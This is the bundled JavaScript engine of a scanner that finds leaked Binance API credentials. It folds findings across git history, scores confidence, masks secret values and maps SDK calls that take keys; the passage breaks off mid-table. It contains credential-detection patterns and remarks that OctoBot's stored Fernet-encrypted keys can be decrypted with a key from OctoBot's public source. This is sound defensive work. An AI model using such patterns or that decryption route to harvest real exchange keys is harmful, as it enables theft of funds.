"use strict";
const require_rolldown_runtime = require("./rolldown-runtime.cjs");
const require_gates = require("./gates.cjs");
const require_first = require("./first.cjs");
const require_worth_reading = require("./worth-reading.cjs");
const require_main = require("./main.cjs");
const require_lib = require("./lib.cjs");
const require_dist$1 = require("./dist2.cjs");
let node_crypto = require("node:crypto");
// ../engine/dist/history.js
/**
* Many versions of many files, one finding for each value: what git's whole history says of a credential, folded out of
* the findings in each object. Pure.
*/
/** So many refs and places are named of each finding; the others are counted. A purge needs the ids of the places. */
const mostNamed = {
	refs: 20,
	places: 200
};
/** The folded findings, each with all that it was folded from. */
function foldHistory(findings, { objects, asOf }) {
	const byValue = /* @__PURE__ */ new Map();
	for (const finding of findings) {
		const same = byValue.get(finding.fingerprint);
		if (same) same.push(finding);
		else byValue.set(finding.fingerprint, [finding]);
	}
	const folded = /* @__PURE__ */ new Map();
	for (const same of byValue.values()) {
		const standings = same.flatMap((finding) => standingsOf(finding, objects?.get(objectOf(finding) ?? "")));
		standings.sort((a, b) => compareRanks(a.first, b.first) || compare(a.place.path, b.place.path) || byObjectAndPlace(a, b));
		const [earliest] = standings;
		if (!earliest) continue;
		const last = standings.reduce((latest, one) => later(latest, one.last), void 0);
		const newest = standings.filter((one) => compareRanks(one.last, last) === 0).map(({ finding }) => finding);
		const strongest = same.reduce((a, b) => strength(b) > strength(a) ? b : a);
		const pair = strongest.pair ?? same.find((finding) => finding.pair !== void 0)?.pair;
		folded.set({
			...strongest,
			...pair === void 0 ? {} : { pair },
			path: earliest.place.path,
			start: earliest.place.start,
			end: earliest.end,
			origin: {
				kind: "history",
				...idsOf(earliest.place),
				...exposureOf(standings, [...new Set(same.map((finding) => objectOf(finding) ?? ""))], objects, asOf)
			}
		}, {
			newest,
			paths: [...new Set(standings.map(({ place }) => place.path))]
		});
	}
	return folded;
}
/** The object that a finding stands in. */
function objectOf({ origin }) {
	return origin.kind === "history" ? origin.blob ?? origin.object : void 0;
}
/**
* A finding at every path of its object that reads as the one it was observed at. An object without a history stands
* where it was observed.
*/
function standingsOf(finding, history) {
	const { path, start, end, origin } = finding;
	const ids = origin.kind === "history" ? idsOf(origin) : {};
	const at = (path, first, last, atHead = false) => ({
		finding,
		end,
		first,
		last,
		atHead,
		place: {
			path,
			start,
			...ids
		}
	});
	const alike = history?.places.filter((place) => (place.readAs ?? place.path) === path) ?? [];
	return alike.length > 0 ? alike.map((place) => at(place.path, place.first, place.last, place.atHead)) : [at(path)];
}
const idsOf = ({ blob, object }) => ({
	...blob === void 0 ? {} : { blob },
	...object === void 0 ? {} : { object }
});
function exposureOf(standings, ids, objects, asOf) {
	const histories = ids.flatMap((id) => objects?.get(id) ?? []);
	const firstCommit = momentOf(standings[0]?.first);
	const lastCommit = momentOf(standings.reduce((latest, { last }) => later(latest, last), void 0));
	const headPath = standings.find(({ atHead }) => atHead)?.place.path;
	const refs = [...new Set(histories.flatMap((history) => history.refs))].sort(require_gates.byInterest);
	const reachable = histories.some((history) => history.reachable);
	const heldBy = reachable ? void 0 : [
		"index",
		"stash",
		"reflog",
		"nothing"
	].find((holder) => histories.some((history) => history.heldBy === holder));
	const days = firstCommit && asOf !== void 0 ? Math.floor((Date.parse(asOf) - Date.parse(firstCommit.date)) / 864e5) : void 0;
	return {
		...firstCommit ? { firstCommit } : {},
		...lastCommit ? { lastCommit } : {},
		atHead: histories.some((history) => history.atHead),
		...headPath === void 0 ? {} : { headPath },
		...standings[0]?.first?.isCut ? { isCut: true } : {},
		...days === void 0 ? {} : { exposedDays: Math.max(0, days) },
		refs: refs.slice(0, mostNamed.refs),
		refCount: refs.length,
		pushed: histories.some((history) => history.pushed),
		reachable,
		...heldBy ? { heldBy } : {},
		places: standings.slice(1, 1 + mostNamed.places).map(({ place }) => place),
		placeCount: standings.length - 1 + histories.reduce((sum, { morePlaces = 0 }) => sum + morePlaces, 0)
	};
}
const momentOf = (moment) => moment && {
	id: moment.id,
	date: moment.date
};
const later = (a, b) => compareRanks(a, b, -1) >= 0 ? a : b;
/** @param absent where a moment that is not known stands: 1 behind all others, -1 before them */
function compareRanks(a, b, absent = 1) {
	if (!a || !b) return a === b ? 0 : a ? -absent : absent;
	return a.time - b.time || a.generation - b.generation || compare(a.id, b.id);
}
const compare = (a, b) => a < b ? -1 : a > b ? 1 : 0;
function byObjectAndPlace({ place: a }, { place: b }) {
	return compare(a.blob ?? a.object ?? "", b.blob ?? b.object ?? "") || a.start.line - b.start.line || a.start.column - b.start.column;
}
const confidences = [
	"possible",
	"likely",
	"certain"
];
/** How bad and how sure a finding is; then how much speaks for it. */
function strength({ severity, confidence, evidence }) {
	const bits = evidence.reduce((sum, clue) => sum + clue.bits, 0);
	return require_first.severities.indexOf(severity) * 1e3 + confidences.indexOf(confidence) * 300 + Math.min(200, bits);
}
// ../engine/dist/document-key.js
/** Names the document that something was seen in: a path, or in the history a path of one object. */
function documentKey(seen) {
	const object = objectOf(seen);
	return object === void 0 ? seen.path : `${object}\0${seen.path}`;
}
// ../engine/dist/judge.js
/** Bits that each tier asks of each question; below `possible` there is no finding. */
const thresholds = {
	credential: {
		certain: 8,
		likely: 4,
		possible: 1
	},
	risk: {
		certain: 8,
		likely: 4,
		possible: 1
	},
	binance: {
		certain: 6,
		likely: 3,
		possible: -4
	}
};
const tiers = [
	"certain",
	"likely",
	"possible"
];
/** The clues that count: the strongest of each group (for roles: of each group and role), strongest first. */
function counted(clues) {
	const strongest = /* @__PURE__ */ new Map();
	for (const clue of clues) {
		const group = `${clue.question}/${clue.group}/${clue.role ?? ""}`;
		const known = strongest.get(group);
		if (!known || Math.abs(clue.bits) > Math.abs(known.bits)) strongest.set(group, clue);
	}
	return [...strongest.values()].sort((a, b) => Math.abs(b.bits) - Math.abs(a.bits));
}
/** Sum of a question's counting bits. */
function total(clues, question) {
	return counted(clues.filter((clue) => clue.question === question)).reduce((sum, { bits }) => sum + bits, 0);
}
/** The confidence that the clues earn, undefined when there is nothing to report. */
function confidenceOf(clues, what = "credential") {
	const itself = total(clues, what);
	const binance = total(clues, "binance");
	return tiers.find((tier) => itself >= thresholds[what][tier] && binance >= thresholds.binance[tier]);
}
/** The role with the most bits and its lead over the next; `unknown` without a lead. */
function roleOf(clues) {
	const sums = /* @__PURE__ */ new Map();
	for (const { role, bits } of counted(clues.filter(({ question }) => question === "role"))) if (role) sums.set(role, (sums.get(role) ?? 0) + bits);
	const [first, second] = [...sums].sort(([, a], [, b]) => b - a);
	const lead = (first?.[1] ?? 0) - (second?.[1] ?? 0);
	return first && lead > 0 ? {
		role: first[0],
		lead
	} : {
		role: "unknown",
		lead: 0
	};
}
// ../engine/dist/sorted.js
/** Binary search in what is sorted. */
/** How many of `length` sorted things come before a point: `before` is true for the first so many and false from there on. */
function countBefore(length, before) {
	let low = 0;
	let high = length;
	while (low < high) {
		const middle = low + high >> 1;
		if (before(middle)) low = middle + 1;
		else high = middle;
	}
	return low;
}
/** Whether one of the ascending numbers lies in [start, end). */
function hasBetween(sorted, start, end) {
	const first = sorted[countBefore(sorted.length, (index) => sorted[index] < start)];
	return first !== void 0 && first < end;
}
// ../engine/dist/candidates/covered.js
/** Which spans lie inside others. */
/** Tells whether one of the spans, or several that overlap, cover another one. */
function coverOf(spans) {
	const merged = [];
	for (const { start, end } of [...spans].sort((a, b) => a.start - b.start)) {
		const last = merged.at(-1);
		if (last && start < last.end) last.end = Math.max(last.end, end);
		else merged.push({
			start,
			end
		});
	}
	return ({ start, end }) => {
		const before = merged[countBefore(merged.length, (index) => merged[index].start <= start) - 1];
		return before !== void 0 && end <= before.end;
	};
}
// ../engine/dist/withheld.js
/** Letters and digits in a row that could be a piece. */
const run$1 = /[A-Za-z0-9+/]{8,}/g;
/** Bits of the filter for each value, of which a value sets 57. */
const bitsPerValue = 4096;
const maxBits = 2 ** 26;
/** From so many values on a hit of the filter is not looked into. */
const maxExact = 500;
const maxKnown = 2e3;
var Withheld = class {
	#secrets;
	#made;
	#filter;
	#known = /* @__PURE__ */ new Map();
	constructor(secrets) {
		this.#secrets = secrets;
		this.#made = secrets.filter(({ isMadeUp }) => isMadeUp);
		const bits = Math.min(maxBits, 2 ** Math.ceil(Math.log2(Math.max(1, secrets.length) * bitsPerValue)));
		this.#filter = new Uint32Array(bits / 32);
		for (const secret of secrets) for (const hash of secret.pieceHashes()) this.#set(hash);
	}
	/** The words without any value and without any piece of eight characters of one; `…` stands for what was cut. */
	from(words) {
		const known = this.#known.get(words);
		if (known !== void 0) return known;
		let safe = words.replace(run$1, (letters) => this.#holdsPiece(letters) ? "…" : letters);
		for (const secret of this.#made) safe = secret.cutFrom(safe);
		if (this.#known.size < maxKnown) this.#known.set(words, safe);
		return safe;
	}
	#holdsPiece(letters) {
		const folded = letters.toLowerCase();
		for (let at = 0; at + 8 <= folded.length; at += 1) {
			const bit = hashOf(folded, at) % (this.#filter.length * 32);
			if ((this.#filter[bit >>> 5] & 1 << (bit & 31)) === 0) continue;
			if (this.#secrets.length > maxExact || this.#secrets.some((secret) => secret.holds(folded, at))) return true;
		}
		return false;
	}
	#set(hash) {
		const bit = hash % (this.#filter.length * 32);
		this.#filter[bit >>> 5] |= 1 << (bit & 31);
	}
};
/** FNV-1a of the piece that begins at `at`. */
function hashOf(text, at) {
	let hash = 2166136261;
	for (let index = at; index < at + 8; index += 1) hash = Math.imul(hash ^ text.charCodeAt(index), 16777619);
	return hash >>> 0;
}
// ../engine/dist/secret.js
/**
* The one place where a raw credential lives. A Secret prints as its mask in every way of printing;
* `grep -rn 'reveal()'` is the security review.
*/
var Secret = class {
	#value;
	#identity;
	/** @param value the decoded credential: the 64 characters of a key, or base64 of a private key's DER. */
	constructor(value, identity = {}) {
		this.#value = value;
		this.#identity = identity;
	}
	/** The first four characters and an ellipsis: enough to recognise a key in the account's own list. `''` for a passphrase. */
	get masked() {
		return this.#identity.place === void 0 ? `${this.#value.slice(0, 4)}…` : "";
	}
	/**
	* The first 32 hex digits of SHA-256 over the domain, a NUL and the value, so the same in every file, repository and
	* role. Values below 128 bits are never hashed: there the place stands for them (docs/decisions/0003-fingerprints.md).
	*/
	get fingerprint() {
		const { domain = "credential", bytes, place } = this.#identity;
		return (0, node_crypto.createHash)("sha256").update(`${domain}\0`).update(bytes ?? place ?? this.#value).digest("hex").slice(0, 32);
	}
	/** SHA-256 of the bare value, 64 hex digits: how the list of documented examples names its values. */
	get sha256() {
		return (0, node_crypto.createHash)("sha256").update(this.#value).digest("hex");
	}
	/** The raw value. Its life must end inside `observe`. */
	reveal() {
		return this.#value;
	}
	/** Whether a person made it up: a passphrase. Then it may hold anything, and nothing of it is hashed or shown. */
	get isMadeUp() {
		return this.#identity.place !== void 0;
	}
	/** Hashes of all pieces of the value, in lower case. For Withheld. */
	*pieceHashes() {
		const value = this.#value.toLowerCase();
		for (let at = 0; at + 8 <= value.length; at += 1) yield hashOf(value, at);
	}
	/** Whether the piece of the folded text that begins at `at` is one of the value. */
	holds(folded, at) {
		return this.#value.toLowerCase().includes(folded.slice(at, at + 8));
	}
	/** The text without the value, in any case and whatever stands between its words. */
	cutFrom(text) {
		const words = this.#value.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? [];
		if (words.join("").length < 4) return text;
		const folded = text.toLowerCase();
		return words.reduce((at, word) => at < 0 ? at : folded.indexOf(word, at), 0) < 0 ? text : words.reduce((left, word) => left.replace(new RegExp(word, "giu"), "…"), text);
	}
	toString() {
		return this.masked;
	}
	toJSON() {
		return this.masked;
	}
	get [Symbol.toStringTag]() {
		return "Secret";
	}
};
Object.defineProperty(Secret.prototype, Symbol.for("nodejs.util.inspect.custom"), { value() {
	return `Secret(${this.masked})`;
} });
// ../engine/dist/candidates/fernet.js
/**
* OctoBot's stored credentials as candidates: Fernet tokens under the name of an exchange. They are encrypted with a key
* that OctoBot's public source holds, so whoever reads the file reads the credentials.
*/
/** Behind the version stands the time in eight bytes, of which the first four and, until 2242, more are zero. */
const token$1 = /^gAAAAA[A-D][A-Za-z0-9_-]{89,}={0,2}$/;
/** `exchanges.binance.api-key` in OctoBot's config.json. */
const entry = /^api[-_](?:key|secret)$/;
function fernetCandidates({ text }, reading) {
	if (!text.includes("gAAAAA")) return [];
	const found = [];
	const look = ({ path, via, container, value }) => {
		if (value.kind !== "text" || !entry.test(path.at(-1) ?? "") || !token$1.test(value.text)) return;
		if (!path.includes("exchanges") || require_worth_reading.meaningOfPath(path).exchange !== void 0) return;
		const uses = [{
			path,
			via,
			container,
			embedded: false
		}];
		found.push({
			shape: "fernet",
			secret: new Secret(value.text),
			span: require_worth_reading.extentOf(value),
			uses
		});
	};
	for (const binding of reading.bindings) look(binding);
	return found;
}
// ../engine/dist/read/prose.js
/**
* What people write before a value in notes, logs, tables and chats: the label of a run of characters that no reader
* of code or configuration has named. `API Key: …`, `| Secret | … |`, a heading and the value below it.
*/
const decoration = /[\s"'`*_~()[\]{}<>,;|\\#\-•·.!]+$/u;
const separator = /(?:[:=：＝→➜>|]|-+>|\bis|\bare|\bсоставляет|是|为)\s*$/u;
/** The labels of what stands at [start, end): nearest first, none if nothing is near; then the remark after it. */
function labelsOf(text, start, end) {
	const from = require_worth_reading.lineStart(text, start);
	const before = text.slice(from, start);
	const labels = [];
	const cells = before.includes("|") && inTable(text, from, end) ? tableLabels(text, from, before) : [];
	labels.push(...cells);
	const own = formatLabel(before) ?? clean(assigned$3(before));
	if (own !== "" && cells.length === 0) labels.push(own);
	if (own === "" && !/[A-Za-z0-9]{60}/.test(before)) {
		const above = labelAbove(text, from);
		if (above !== "") labels.push(above);
	}
	return [...labels.map((says) => ({ says })), ...remarkAfter(text, end)];
}
/** The words right before a value, without quotes, bullets and separators. */
function clean(before) {
	let label = before;
	for (let length = -1; length !== label.length;) {
		length = label.length;
		label = label.replace(decoration, "").replace(separator, "");
	}
	return (label.split(/[,;，。；\t]|[A-Za-z0-9]{60,}|\s{3,}|"\s+"|\s\|\s/u).at(-1) ?? "").replace(/^[\s"'`*_>#\-•·\d.()[\]|]+/u, "").slice(-100);
}
/** `api_key: SecretStr = Field("…"`: the value's label is the name that the call is assigned to. */
function assigned$3(before) {
	return /(?<![\w$.-])([\w$.-]+)\s*(?::[^=;(]{1,60})?:?=\s*(?:await\s+|new\s+)?[\w$.:<>[\]\\]+\(\s*["'`]?$/.exec(before)?.[1] ?? before;
}
/** `"key=%s secret=%s", "…", "…"`: the n-th value after a format belongs to its n-th blank. */
function formatLabel(before) {
	const format = /(["'`])([^"'`]*(?:%[sdvqr]|\{\w*\})[^"'`]*)\1\s*,([^()]*)$/.exec(before);
	if (!format) return void 0;
	const parts = (format[2] ?? "").split(/%[sdvqr]|\{\w*\}/);
	const nth = (format[3] ?? "").split(",").length - 1;
	return nth < parts.length - 1 ? clean(parts[nth] ?? "") : void 0;
}
/** Whether the line is a row: it begins with a bar, or a neighbouring line has bars too. A shell's pipe is none. */
function inTable(text, from, end) {
	if (/^\s*\|/.test(text.slice(from, from + 20))) return true;
	const to = require_worth_reading.lineEnd(text, end);
	const above = from > 0 ? text.slice(Math.max(require_worth_reading.lineStart(text, from - 1), from - 400), from) : "";
	const below = text.slice(to + 1, Math.min(require_worth_reading.lineEnd(text, to + 1), to + 400));
	return above.includes("|") || below.includes("|");
}
/** In a table: the cell to the left, and the head of the column. */
function tableLabels(text, from, before) {
	const cells = before.split("|");
	const left = (cells.at(-2) ?? "").trim();
	const labels = left === "" ? [] : [clean(left)];
	const column = cells.length - 1;
	let line = from;
	for (let up = 0; up < 50 && line > 0; up += 1) {
		const previous = require_worth_reading.lineStart(text, line - 1);
		const row = text.slice(previous, line - 1);
		if (!row.includes("|")) break;
		if (/^[\s|:+-]+$/.test(row)) {
			const headStart = require_worth_reading.lineStart(text, previous - 1);
			const head = text.slice(headStart, Math.max(headStart, previous - 1)).split("|")[column]?.trim() ?? "";
			if (head !== "") labels.unshift(clean(head));
			break;
		}
		line = previous;
	}
	return labels.filter((label) => label !== "");
}
/** A line of a program says nothing of the value below it. */
const statement$1 = /^(?:>>>|\.\.\.)|^(?:import|from\s.*\simport|def|class|return|if|for|while|try|@\w)\b.*|[({[;]$/;
/** The nearest line above that says something, if it is short enough to be a label. */
function labelAbove(text, from) {
	let line = from;
	for (let up = 0; up < 4 && line > 0; up += 1) {
		const previous = require_worth_reading.lineStart(text, line - 1);
		const above = require_worth_reading.withoutExcuses(text.slice(Math.max(previous, line - 200), line - 1)).trim();
		line = previous;
		if (above === "" || /^[#/*;%!<>-]+$|^[`~'"=+*_-]{3,}\w*$/.test(above)) continue;
		if (/[A-Za-z0-9]{60,}/.test(above)) continue;
		if (statement$1.test(above)) return "";
		if (namesBoth(above)) return "";
		return above.length <= 120 ? clean(above) : "";
	}
	return "";
}
/** What a comment on the line right above says, if that line is one: `// Secret key`. */
function commentAbove(text, start) {
	const from = require_worth_reading.lineStart(text, start);
	if (from === 0) return [];
	const above = require_worth_reading.withoutExcuses(text.slice(require_worth_reading.lineStart(text, from - 1), from - 1)).trim();
	return above.length <= 100 && comment.test(above) && !namesBoth(above) && !/[A-Za-z0-9]{60,}/.test(above) ? remarks(clean(above.replace(/\*\/|-->/g, ""))) : [];
}
const comment = /^(?:\/\/|\/\*|\*|#|--|;|%|'|<!--|\{-|\(\*|rem\b)/i;
const twoThings = /\bkey\b[^\n]{0,40}(?:[;,:/&|+]|\band\b|\bthen\b|\bline\b)[^\n]{0,20}\bsecret\b|\bsecret\b[^\n]{0,40}(?:[;,:/&|+]|\band\b|\bthen\b)[^\n]{0,20}\bkey\b/i;
/** Whether a line speaks of a key and of a secret, as two things: `key;secret`, `API key first, then the secret`. */
function namesBoth(line) {
	return twoThings.test(line);
}
/** A remark after the value, if there is one: `… // secret key`, `… (api key)`. */
function remarkAfter(text, end) {
	const rest = text.slice(end, require_worth_reading.lineEnd(text, end, 120));
	const remark = /^["'`]?\s*[,;)]*\s*(?:\/\/|#|--|<!--|\/\*|\(|←|<-)\s*([^\r\n]{2,80})/u.exec(rest)?.[1] ?? "";
	return /[A-Za-z0-9]{60,}/.test(remark) ? [] : remarks(require_worth_reading.withoutExcuses(remark).replace(/[\s,;/*#-]+$/, "").replace(/\s*(?:\*\/|-->|\))\s*$/, ""));
}
const remarks = (says) => says === "" ? [] : [{
	says,
	isRemark: true
}];
// ../engine/dist/candidates/keys.js
/** Keys of 64 characters as candidates: every run of their shape, with the names, calls and labels that it stands under. */
/**
* @param isTaken whether something else, a private key, is what stands there.
*/
function keyCandidates(document, reading, isTaken) {
	const found = new Found(document.text);
	for (const binding of reading.bindings) found.look(binding);
	for (const call of reading.calls) for (const arg of call.args) found.look(arg, call);
	found.lookAtRest(isTaken);
	const keys = found.all.filter(({ span: { start, end } }) => !isTaken({
		start,
		end: start + 1
	}) && !isTaken({
		start: end - 1,
		end
	}));
	nameByFile(keys, document);
	const prose = isProse$1(reading.language);
	return keys.map((key) => withLabels(key, document.text, prose));
}
/** The candidates found so far, by where they begin. */
var Found = class {
	#text;
	#isInBlock;
	#candidates = /* @__PURE__ */ new Map();
	/** Runs that only joined literals show to be longer than a key. */
	#longer = [];
	/** How often each literal was looked at: one may be the value of a thousand calls, and long. */
	#looks = /* @__PURE__ */ new Map();
	constructor(text) {
		this.#text = text;
		this.#isInBlock = require_worth_reading.base64BlocksIn(text);
	}
	get all() {
		return [...this.#candidates.values()];
	}
	/** The keys in the value of a name or an argument. */
	look({ path, via, container, value, span: own }, call) {
		if (value.kind !== "text" || value.text.length < 64) return;
		const literal = `${String(value.pieces[0]?.source.start)} ${String(value.text.length)}`;
		const before = this.#looks.get(literal) ?? 0;
		this.#looks.set(literal, before + 1);
		if (before >= 24) return;
		const runs = require_worth_reading.runsOf(value.text);
		const several = new Set(runs.map((run) => run.value)).size > 1;
		if (value.pieces.length > 1) this.#longer.push(...longerRuns(value));
		for (const run of runs) {
			const span = require_worth_reading.sourceSpan(value, run);
			if (span.end - span.start === 64 && (!require_worth_reading.standsAlone(this.#text, span.start, span.end) || this.#isInBlock(span.start, span.end))) continue;
			const embedded = value.text.trim().length > run.end - run.start + 2;
			const alias = !call && (span.start < own.start || span.end > own.end);
			this.#add(run, span, {
				path,
				via,
				container,
				embedded,
				outer: several,
				alias,
				...call ? { call } : {}
			});
			if (embedded) for (const { says, ...kind } of labelsOf(value.text, run.start, run.end)) this.#add(run, span, {
				...kind,
				path: [says],
				via: "bare",
				container,
				embedded: true
			});
		}
	}
	/** The keys that no name or call brought. */
	lookAtRest(isTaken) {
		const isLonger = coverOf(this.#longer);
		for (const run of require_worth_reading.runsOf(this.#text)) {
			const span = {
				start: run.start,
				end: run.end
			};
			if (!this.#candidates.has(run.start) && !isTaken(span) && !isLonger(span)) this.#add(run, span);
		}
	}
	#add({ kind, value }, span, use) {
		const known = this.#candidates.get(span.start);
		const candidate = known ?? {
			shape: kind,
			secret: new Secret(value),
			span,
			uses: []
		};
		if (!known) this.#candidates.set(span.start, candidate);
		if (use && candidate.uses.length < 24) candidate.uses.push(use);
	}
};
/** A file that holds nothing but a value names it, as Docker's secrets do. */
function nameByFile(keys, document) {
	const [only] = keys;
	const name = nameOfFile(document);
	if (!only || keys.length > 1 || name === void 0) return;
	if (document.text.trim().length !== only.span.end - only.span.start) return;
	only.uses.push({
		path: [name],
		via: "entry",
		container: 0,
		embedded: false
	});
}
/** A key, or a key in base64. */
const longestKey$1 = 88;
/** The name that a file gives to the value that it holds; undefined where it is too long to hold nothing else. */
function nameOfFile({ path, text }) {
	if (path === "" || text.trim().length > longestKey$1) return void 0;
	return path.slice(path.lastIndexOf("/") + 1).replace(/\.(?:txt|dat|secret)$/, "");
}
/** What stands before and after the value, for those that no name tells of, and in text for people. */
function withLabels(key, text, prose) {
	const { span } = key;
	const named = key.uses.some(({ embedded, via, path }) => !embedded && via !== "bare" && path.some((step) => !/^\d*$/.test(step)));
	const uses = named ? key.uses.map((use) => use.embedded && use.outer === false ? {
		...use,
		outer: true
	} : use) : [...key.uses];
	const tells = uses.some(({ path }) => require_worth_reading.meaningOfPath(path).role !== void 0);
	const labels = named && !prose ? [...remarkAfter(text, span.end), ...tells ? [] : commentAbove(text, span.start).filter(({ says }) => require_worth_reading.meaningOfPath([says]).role)] : labelsOf(text, span.start, span.end);
	const container = uses[0]?.container ?? (named ? 0 : require_worth_reading.lineStart(text, span.start));
	for (const { says, ...kind } of labels) uses.push({
		...kind,
		path: [says],
		via: "bare",
		container,
		embedded: true
	});
	return {
		...key,
		uses
	};
}
/** Whether the language is for people: a line may be anything, and labels stand where they please. */
function isProse$1(language) {
	return [
		"text",
		"markdown",
		"csv",
		"notebook",
		"markup"
	].includes(language);
}
/** Source spans of runs that joined pieces make longer than a key: no piece of those is a key. */
function longerRuns(value) {
	return [...value.text.matchAll(/[A-Za-z0-9+/]{65,}/g)].filter(({ 0: run }) => run.length !== 86 && run.length !== 87).map(({ index, 0: run }) => require_worth_reading.sourceSpan(value, {
		start: index,
		end: index + run.length
	}));
}
// ../engine/dist/rules/sdks.js
/**
* The SDKs that take Binance credentials: which import brings them, which call takes which role at which place.
* Data only. Sources: docs/facts.md, each library's own documentation.
*/
const keyThenSecret = {
	0: "api-key",
	1: "secret"
};
const byName$1 = {};
const call = (sdk, callee, args, imports, distinctive = false) => ({
	sdk,
	callee,
	args,
	distinctive,
	...imports ? { imports } : {}
});
const connectorJs = /^@binance\//;
const pythonBinance = /^binance(?:[./]|$)/;
const goBinance = /go-binance|binance-connector-go|binance_connector/;
const rustBinance = /^binance(?:_|::|$)/;
/** First match wins; more telling rows come first. */
const sdkCalls = [
	call("ccxt", /(?:^|\.)ccxt(?:\.(?:pro|async_support|async|rest))*\.binance(?:usdm|coinm|us)?$/i, byName$1, void 0, true),
	call("ccxt", /(?:^|\.)ccxt(?:pro)?\.NewBinance\w*$/i, byName$1, void 0, true),
	call("ccxt", /(?:^|\.)Binance(?:usdm|coinm|us)?$/i, byName$1, /ccxt/i),
	call("@binance/connector", /(?:^|\.)(?:Spot|WebsocketAPI|WebsocketStream)$/, keyThenSecret, connectorJs),
	call("@binance/futures-connector", /(?:^|\.)(?:UMFutures|CMFutures|UMStream|CMStream)$/, keyThenSecret, /^@binance\/futures-connector|^binance/),
	call("@binance SDK", /(?:^|\.)(?:Configuration(?:RestAPI|WebsocketAPI|WebsocketStreams)|Wallet|Margin\w*|SubAccount|Derivatives\w*|Convert|Staking|Algo)$/i, byName$1, connectorJs),
	call("binance", /(?:^|\.)(?:MainClient|USDMClient|CoinMClient|PortfolioClient|WebsocketClient|WebsocketAPIClient)$/, byName$1, /^binance$/),
	call("node-binance-api", /(?:^|\.)Binance(?:\.default)?(?:\.options)?$|(?:^|\.)binance\.options$/, byName$1, /node-binance-api|binance-api-node|binance/i),
	call("python-binance", /(?:^|\.)(?:Client|AsyncClient)(?:\.create)?$/, {
		...keyThenSecret,
		7: "private-key"
	}, pythonBinance),
	call("python-binance", /(?:^|\.)(?:ThreadedWebsocketManager|ThreadedDepthCacheManager|BinanceSocketManager)$/, keyThenSecret, void 0, true),
	call("binance-connector", /(?:^|\.)(?:Spot|SpotWebsocketAPIClient|UMFutures|CMFutures|Futures)$/, keyThenSecret, pythonBinance),
	call("binance-sdk", /(?:^|\.)Configuration(?:RestAPI|WebSocketAPI|WebSocketStreams)$/, keyThenSecret, /^binance_/, true),
	call("unicorn-binance", /(?:^|\.)Binance(?:RestApi|WebSocketApi|LocalDepthCache)Manager$/, keyThenSecret, void 0, true),
	call("unicorn-binance", /(?:^|\.)create_stream$/, byName$1, /unicorn_binance/),
	call("nautilus_trader", /(?:^|\.)Binance(?:Exec|Data)ClientConfig$/, byName$1, void 0, true),
	call("go-binance", /(?:^|\.)binance(?:_connector)?\.New(?:Futures|Delivery|Options|Proxied|Websocket\w*)?(?:Client|APIClient)$/, keyThenSecret, goBinance, true),
	call("go-binance", /(?:^|\.)(?:futures|delivery|options|portfolio|eoptions)\.New(?:Proxied)?Client$/, keyThenSecret, goBinance),
	call("go-binance", /(?:^|\.)New\w+WsService$|(?:^|\.)NewBinance\w*$/, keyThenSecret, goBinance),
	call("binance-connector-go", /(?:^|\.)With(?:Ws)?ApiKey$/, { 0: "api-key" }, goBinance),
	call("binance-connector-go", /(?:^|\.)With(?:Ws)?ApiSecret$/, { 0: "secret" }, goBinance),
	call("binance-connector-go", /(?:^|\.)With(?:Ws)?PrivateKey$/, { 0: "private-key" }, goBinance),
	call("binance-connector-java", /(?:^|\.)(?:Spot|UMFutures|CMFutures|Futures|WebSocketApi|PortfolioMargin|Websocket\w*)ClientImpl$/, keyThenSecret, /binance/, true),
	call("binance-connector-java", /(?:^|\.)HmacSignatureGenerator$/, { 0: "secret" }, void 0, true),
	call("binance-api", /(?:^|\.)BinanceApi(?:Rest|Async|Margin|WebSocket|Swap)?ClientFactory(?:\.newInstance)?$/, keyThenSecret, void 0, true),
	call("binance-connector-java", /(?:^|\.)setApiKey$/, { 0: "api-key" }, /^(?!.*binance[-_]?chain).*(?:binance|xchange)/i),
	call("binance-connector-java", /(?:^|\.)setSecretKey$/, { 0: "secret" }, /^(?!.*binance[-_]?chain).*(?:binance|xchange)/i),
	call("binance-connector-java", /(?:^|\.)setPrivateKey$/, { 0: "private-key" }, /^(?!.*binance[-_]?chain).*binance/i),
	call("Binance.Net", /(?:^|\.)Binance(?:Api)?Credentials$/, keyThenSecret, void 0, true),
	call("Binance.Net", /(?:^|\.)Binance(?:Api)?Credentials\.With\w+$/, keyThenSecret, void 0, true),
	call("Binance.Net", /(?:^|\.)(?:ApiCredentials|HMACCredential|WithHMAC)$/, keyThenSecret, /^Binance\.Net|CryptoExchange\.Net/i),
	call("binance-connector-dotnet", /(?:^|\.)BinanceHmac$/, { 0: "secret" }, void 0, true),
	call("binance-connector-dotnet", /(?:^|\.)WebSocketApi$/, { 1: "api-key" }, /^Binance/),
	call("binance-rs", /(?:^|\.)Binance\.new(?:_with_config|_with_env)?$/, keyThenSecret, rustBinance, true),
	call("binance-rs", /(?:^|\.)(?:General|Account|Market|FuturesAccount|FuturesGeneral|Savings|Withdraw|UserStream)\.new$/, keyThenSecret, rustBinance),
	call("binance-connector-rust", /(?:^|\.)Credentials\.from_(?:hmac|rsa|ed25519)\w*$/, keyThenSecret, rustBinance),
	call("binance-sdk", /(?:^|\.)api_key$/, { 0: "api-key" }, rustBinance),
	call("binance-sdk", /(?:^|\.)api_secret$/, { 0: "secret" }, rustBinance),
	call("php-binance-api", /(?:^|\.)Binance\.API$/i, keyThenSecret, void 0, true),
	call("php-binance-api", /(?:^|\.)API$/, keyThenSecret, /^Binance/),
	call("binance-connector-php", /(?:^|\.)Binance\.(?:Spot|WebsocketAPI)$/i, byName$1, void 0, true),
	call("binance-connector-ruby", /(?:^|\.)Binance\.(?:Spot|Client|Session)(?:\.\w+)*\.new$/, byName$1, void 0, true),
	call("binancer", /(?:^|\.)binance_credentials$/, keyThenSecret, void 0, true),
	call("binance (R)", /(?:^|\.)authenticate$/, keyThenSecret, /^binance$/),
	call("OpenBB", /(?:^|\.)keys\.binance$/, keyThenSecret, void 0, true)
];
/** Calls that sign: their literal is a secret, though not surely Binance's. */
const signingCalls = [
	call("HMAC", /(?:^|\.)createHmac$/, { 1: "secret" }),
	call("HMAC", /(?:^|\.)(?:HmacUtils|Hmac|HMAC)$/, { 1: "secret" }),
	call("HMAC", /(?:^|\.)computeHmacSha256Signature$/, { 1: "secret" }),
	call("HMAC", /(?:^|\.)hmac_sha(?:256|512)_(?:hex|base64)$/, { 1: "secret" }),
	call("HMAC", /(?:^|\.)crypto\.(?:mac|hmac)$/, { 2: "secret" }),
	call("HMAC", /(?:^|\.)hmac\.Key\.new$/, { 1: "secret" }),
